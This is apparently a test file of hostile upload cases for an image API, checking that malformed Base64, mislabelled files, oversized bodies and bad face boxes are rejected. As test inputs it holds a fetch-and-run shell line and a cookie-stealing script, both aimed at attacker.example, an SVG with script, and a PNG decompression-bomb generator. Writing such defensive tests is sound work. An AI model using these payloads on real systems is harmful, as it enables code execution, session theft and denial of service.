/**
 * Hostile uploads (POST /v1/images): malformed and truncated Base64, declared types the bytes are
 * not (a JPEG, a script, an HTML page), decompression bombs (huge dimensions in a few bytes),
 * sizes over the limits, boundary face boxes, biometric fields, rules and Idempotency-Key reuse.
 * Every case is A's, with a token that may upload.
 */
import { deflateSync, crc32 } from 'node:zlib';
import { heicImage, jpegImage, pngImage } from '../fixtures/images';
import type { HostileCase, Send } from './hostile-runner';
import { call } from './hostile-runner';
import type { UploadBody, World } from './hostile-world';

/** An upload of A: the world's valid body with `change` applied. */
const upload = (change: (body: UploadBody, w: World) => Record<string, unknown> | Promise<Record<string, unknown>>): Send => {
  return async (w) => call('POST', '/v1/images', { token: w.a.token, json: await change(w.upload, w) })(w);
};

const withBytes = (bytes: Buffer, contentType: string) => (body: UploadBody) => ({ ...body, imageBase64: bytes.toString('base64'), contentType });

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typeAndData = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData) >>> 0);
  return Buffer.concat([length, typeAndData, crc]);
}

/**
 * A structurally valid 1-bit greyscale PNG of the given size whose pixels are all zero: the
 * deflated data is a few bytes per row, so 20,000 × 20,000 (400 megapixels, 50 MB once inflated)
 * fits in about 50 KB.
 */
export function zeroPng(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 1; // bit depth
  ihdr[9] = 0; // greyscale
  const rowBytes = Math.ceil(width / 8) + 1;
  const raw = Buffer.alloc(Math.max(1, rowBytes * Math.max(height, 1)));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(raw, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A real JPEG whose frame header (SOF) is rewritten to claim `width` × `height`. */
async function jpegClaiming(width: number, height: number): Promise<Buffer> {
  const bytes = Buffer.from((await jpegImage(16, 16)).bytes);
  for (let i = 2; i + 9 < bytes.length; i++) {
    if (bytes[i] === 0xff && bytes[i + 1] >= 0xc0 && bytes[i + 1] <= 0xc2) {
      bytes.writeUInt16BE(height, i + 5);
      bytes.writeUInt16BE(width, i + 7);
      return bytes;
    }
  }
  throw new Error('no SOF marker in the fixture JPEG');
}

const script = Buffer.from('#!/bin/sh\ncurl http://attacker.example/x | sh\n', 'utf8');
const html = Buffer.from('<!doctype html><html><body><script>fetch("https://attacker.example/?c="+document.cookie)</script></body></html>', 'utf8');
const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>', 'utf8');
const box = (x: number, y: number, width: number, height: number) => ({ x, y, width, height });

export const IMAGE_UPLOAD_CASES: readonly HostileCase[] = [
  // Base64
  { endpoint: 'POST /v1/images', input: 'Base64 cut to a length that is not a multiple of 4', status: 400, code: 'INVALID_BASE64', send: upload((b) => ({ ...b, imageBase64: b.imageBase64.slice(0, 1001) })) },
  { endpoint: 'POST /v1/images', input: 'Base64 truncated on a 4-character boundary (a truncated JPEG)', status: 422, code: 'IMAGE_UNREADABLE', send: upload((b) => ({ ...b, imageBase64: b.imageBase64.slice(0, 400) })) },
  { endpoint: 'POST /v1/images', input: 'Base64 with MIME line breaks every 76 characters', status: 400, code: 'INVALID_BASE64', send: upload((b) => ({ ...b, imageBase64: b.imageBase64.replace(/(.{76})/g, '$1\r\n') })) },
  { endpoint: 'POST /v1/images', input: 'Base64 behind a data: URL prefix', status: 400, code: 'INVALID_BASE64', send: upload((b) => ({ ...b, imageBase64: `data:image/jpeg;base64,${b.imageBase64}` })) },
  { endpoint: 'POST /v1/images', input: 'URL-safe Base64 alphabet (- and _)', status: 400, code: 'INVALID_BASE64', send: upload((b) => ({ ...b, imageBase64: `-_${b.imageBase64.slice(2)}` })) },
  { endpoint: 'POST /v1/images', input: 'Base64 with non-zero bits before the padding', status: 400, code: 'INVALID_BASE64', send: upload((b) => ({ ...b, imageBase64: 'QUJDRB==' })) },
  { endpoint: 'POST /v1/images', input: 'Base64 with padding in the middle', status: 400, code: 'INVALID_BASE64', send: upload((b) => ({ ...b, imageBase64: `QQ==${b.imageBase64}` })) },
  { endpoint: 'POST /v1/images', input: 'characters outside the alphabet (NUL, quotes, unicode)', status: 400, code: 'INVALID_BASE64', send: upload((b) => ({ ...b, imageBase64: '\u0000"\'é😀' })) },
  { endpoint: 'POST /v1/images', input: 'imageBase64 as a number', status: 400, code: 'VALIDATION_FAILED', send: upload((b) => ({ ...b, imageBase64: 1234 })) },
  { endpoint: 'POST /v1/images', input: 'imageBase64 as an array of chunks', status: 400, code: 'VALIDATION_FAILED', send: upload((b) => ({ ...b, imageBase64: [b.imageBase64.slice(0, 8), b.imageBase64.slice(8)] })) },
  { endpoint: 'POST /v1/images', input: 'imageBase64 empty (zero bytes)', status: 422, code: 'CONTENT_TYPE_MISMATCH', send: upload((b) => ({ ...b, imageBase64: '' })) },
  // Declared type versus bytes
  { endpoint: 'POST /v1/images', input: 'declared image/png, the bytes are a JPEG', status: 422, code: 'CONTENT_TYPE_MISMATCH', send: upload(async (b) => withBytes((await jpegImage(32, 32)).bytes, 'image/png')(b)) },
  { endpoint: 'POST /v1/images', input: 'declared image/png, the bytes are a shell script', status: 422, code: 'CONTENT_TYPE_MISMATCH', send: upload(withBytes(script, 'image/png')) },
  { endpoint: 'POST /v1/images', input: 'declared image/jpeg, the bytes are an HTML page with a script', status: 422, code: 'CONTENT_TYPE_MISMATCH', send: upload(withBytes(html, 'image/jpeg')) },
  { endpoint: 'POST /v1/images', input: 'declared image/heic, the bytes are a PNG', status: 422, code: 'CONTENT_TYPE_MISMATCH', send: upload(async (b) => withBytes((await pngImage(32, 32)).bytes, 'image/heic')(b)) },
  { endpoint: 'POST /v1/images', input: 'a JPEG signature followed by a script (polyglot)', status: 422, code: 'IMAGE_UNREADABLE', send: upload(withBytes(Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), script]), 'image/jpeg')) },
  { endpoint: 'POST /v1/images', input: 'declared image/svg+xml (an SVG with scripts)', status: 422, code: 'UNSUPPORTED_CONTENT_TYPE', send: upload(withBytes(svg, 'image/svg+xml')) },
  { endpoint: 'POST /v1/images', input: 'contentType of 101 characters', status: 400, code: 'VALIDATION_FAILED', send: upload((b) => ({ ...b, contentType: `image/${'x'.repeat(95)}` })) },
  { endpoint: 'POST /v1/images', input: 'a PNG truncated in the middle of its data', status: 422, code: 'IMAGE_UNREADABLE', send: upload(async (b) => { const png = (await pngImage(40, 30)).bytes; return withBytes(png.subarray(0, Math.floor(png.length / 2)), 'image/png')(b); }) },
  // Decompression bombs and absurd sizes
  { endpoint: 'POST /v1/images', input: 'PNG bomb: 20,000 × 20,000 zero pixels in ~50 KB', status: 422, code: 'IMAGE_DIMENSIONS_REFUSED', send: upload(withBytes(zeroPng(20_000, 20_000), 'image/png')) },
  { endpoint: 'POST /v1/images', input: 'PNG 20,001 × 1 (one side over 20,000 px)', status: 422, code: 'IMAGE_DIMENSIONS_REFUSED', send: upload(withBytes(zeroPng(20_001, 1), 'image/png')) },
  { endpoint: 'POST /v1/images', input: 'PNG declaring a zero width', status: 422, code: 'IMAGE_DIMENSIONS_REFUSED', send: upload(withBytes(zeroPng(0, 16), 'image/png')) },
  { endpoint: 'POST /v1/images', input: 'JPEG whose frame header claims 65,500 × 65,500', status: 422, code: 'IMAGE_DIMENSIONS_REFUSED', send: upload(async (b) => withBytes(await jpegClaiming(65_500, 65_500), 'image/jpeg')(b)) },
  { endpoint: 'POST /v1/images', input: 'JPEG whose frame header claims a zero height', status: 422, code: 'IMAGE_DIMENSIONS_REFUSED', send: upload(async (b) => withBytes(await jpegClaiming(16, 0), 'image/jpeg')(b)) },
  { endpoint: 'POST /v1/images', input: 'HEIC whose ispe claims 60,000 × 60,000', status: 422, code: 'IMAGE_DIMENSIONS_REFUSED', send: upload(withBytes(heicImage(60_000, 60_000).bytes, 'image/heic')) },
  {
    endpoint: 'POST /v1/images',
    input: 'Base64 that decodes to 10 MiB + 1 byte',
    status: 413,
    code: 'PAYLOAD_TOO_LARGE',
    send: upload((b, w) => ({ ...b, imageBase64: `${'A'.repeat(Math.ceil((w.t.config.uploads.maxBytes + 1) / 3) * 4 - 1)}=` })),
  },
  {
    endpoint: 'POST /v1/images',
    input: 'a body one byte over the request limit',
    status: 413,
    code: 'PAYLOAD_TOO_LARGE',
    send: async (w) => {
      const prefix = '{"contentType":"image/jpeg","purpose":"photo-enlarge","faces":[],"imageBase64":"';
      const limit = Math.ceil(w.t.config.uploads.maxBytes / 3) * 4 + 64 * 1024;
      const body = `${prefix}${'A'.repeat(limit + 1 - prefix.length - 2)}"}`;
      return call('POST', '/v1/images', { token: w.a.token, body })(w);
    },
  },
  // Face boxes at and past the boundaries (the fresh image is 32 × 32)
  { endpoint: 'POST /v1/images', input: 'faces empty for photo-enlarge', status: 422, code: 'NO_FACE_DETECTED', send: upload((b) => ({ ...b, faces: [] })) },
  { endpoint: 'POST /v1/images', input: 'face box x = -1', status: 422, code: 'FACE_BOX_OUT_OF_BOUNDS', send: upload((b) => ({ ...b, faces: [box(-1, 0, 10, 10)] })) },
  { endpoint: 'POST /v1/images', input: 'face box width 0', status: 422, code: 'FACE_BOX_OUT_OF_BOUNDS', send: upload((b) => ({ ...b, faces: [box(0, 0, 0, 10)] })) },
  { endpoint: 'POST /v1/images', input: 'face box height 0.5 (under one pixel)', status: 422, code: 'FACE_BOX_OUT_OF_BOUNDS', send: upload((b) => ({ ...b, faces: [box(0, 0, 10, 0.5)] })) },
  { endpoint: 'POST /v1/images', input: 'face box one pixel past the right edge (x + width = 33 on 32 px)', status: 422, code: 'FACE_BOX_OUT_OF_BOUNDS', send: upload((b) => ({ ...b, faces: [box(1, 0, 32, 32)] })) },
  { endpoint: 'POST /v1/images', input: 'face box x = 1e308', status: 422, code: 'FACE_BOX_OUT_OF_BOUNDS', send: upload((b) => ({ ...b, faces: [box(1e308, 0, 1, 1)] })) },
  { endpoint: 'POST /v1/images', input: 'face box width = Number.MAX_SAFE_INTEGER + 2', status: 422, code: 'FACE_BOX_OUT_OF_BOUNDS', send: upload((b) => ({ ...b, faces: [box(0, 0, 2 ** 53 + 2, 1)] })) },
  { endpoint: 'POST /v1/images', input: 'face box height as the string "20"', status: 400, code: 'VALIDATION_FAILED', send: upload((b) => ({ ...b, faces: [{ x: 0, y: 0, width: 20, height: '20' }] })) },
  { endpoint: 'POST /v1/images', input: 'face box x null', status: 400, code: 'VALIDATION_FAILED', send: upload((b) => ({ ...b, faces: [{ x: null, y: 0, width: 20, height: 20 }] })) },
  { endpoint: 'POST /v1/images', input: 'face box missing height', status: 400, code: 'VALIDATION_FAILED', send: upload((b) => ({ ...b, faces: [{ x: 0, y: 0, width: 20 }] })) },
  { endpoint: 'POST /v1/images', input: '65 face boxes (one over the maximum)', status: 422, code: 'TOO_MANY_FACES', send: upload((b) => ({ ...b, faces: Array.from({ length: 65 }, () => box(0, 0, 1, 1)) })) },
  { endpoint: 'POST /v1/images', input: '5,000 face boxes', status: 422, code: 'TOO_MANY_FACES', send: upload((b) => ({ ...b, faces: Array.from({ length: 5000 }, () => box(0, 0, 1, 1)) })) },
  { endpoint: 'POST /v1/images', input: 'faces as an object instead of an array', status: 400, code: 'VALIDATION_FAILED', send: upload((b) => ({ ...b, faces: { 0: box(0, 0, 10, 10) } })) },
  { endpoint: 'POST /v1/images', input: 'a face box of primitives (faces: [1, 2])', status: 400, code: 'VALIDATION_FAILED', send: upload((b) => ({ ...b, faces: [1, 2] })) },
  { endpoint: 'POST /v1/images', input: 'unknown field confidence in a face box', status: 400, code: 'UNKNOWN_FIELD', send: upload((b) => ({ ...b, faces: [{ ...box(0, 0, 10, 10), confidence: 0.9 }] })) },
  { endpoint: 'POST /v1/images', input: 'unknown top-level field ownerId', status: 400, code: 'UNKNOWN_FIELD', send: upload((b, w) => ({ ...b, ownerId: w.b.subjectId })) },
  // Biometric templates
  { endpoint: 'POST /v1/images', input: 'landmarks vector inside a face box', status: 422, code: 'BIOMETRIC_TEMPLATE_REJECTED', send: upload((b) => ({ ...b, faces: [{ ...box(0, 0, 10, 10), landmarks: [1, 2, 3, 4] }] })) },
  { endpoint: 'POST /v1/images', input: 'top-level face_embedding of 128 floats', status: 422, code: 'BIOMETRIC_TEMPLATE_REJECTED', send: upload((b) => ({ ...b, face_embedding: Array.from({ length: 128 }, (_, i) => i / 128) })) },
  // Rules
  { endpoint: 'POST /v1/images', input: 'purpose "marketing"', status: 422, code: 'PURPOSE_NOT_ALLOWED', send: upload((b) => ({ ...b, purpose: 'marketing' })) },
  { endpoint: 'POST /v1/images', input: 'purpose as an array', status: 400, code: 'VALIDATION_FAILED', send: upload((b) => ({ ...b, purpose: ['photo-enlarge'] })) },
  { endpoint: 'POST /v1/images', input: 'a purpose without consent (time-painting)', status: 422, code: 'CONSENT_REQUIRED', send: upload((b) => ({ ...b, purpose: 'time-painting' })) },
  { endpoint: 'POST /v1/images', input: 'a restricted purpose (ai-edit)', status: 422, code: 'PURPOSE_RESTRICTED', send: upload((b) => ({ ...b, purpose: 'ai-edit' })) },
  {
    endpoint: 'POST /v1/images',
    input: 'replayed Idempotency-Key with a different body',
    status: 422,
    code: 'IDEMPOTENCY_KEY_REUSED',
    send: (w) => call('POST', '/v1/images', { token: w.a.token, headers: { 'Idempotency-Key': w.keyed.image.key }, json: { ...w.keyed.image.body, faces: [box(0, 0, 8, 8)] } })(w),
  },
  { endpoint: 'POST /v1/images', input: 'an empty Idempotency-Key header', status: 400, code: 'INVALID_IDEMPOTENCY_KEY', send: (w) => call('POST', '/v1/images', { token: w.a.token, headers: { 'Idempotency-Key': '' }, json: w.upload })(w) },
];
